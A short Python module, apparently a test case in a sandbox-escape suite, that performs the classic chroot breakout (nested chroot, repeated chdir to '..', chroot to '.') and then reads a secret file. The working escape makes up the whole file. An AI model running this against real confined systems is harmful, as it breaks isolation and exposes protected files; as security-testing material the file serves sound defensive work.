"""Success: another root, the classic way to climb out of one."""

import os

from kit import got, system_call, text, tries


def attack(a):
    def climb():
        os.mkdir("inner")
        system_call("chroot", b"inner")
        for _ in range(30):
            os.chdir("..")
        system_call("chroot", b".")
        return got("chroot") + text(a["secret_file"])

    return tries(climb)
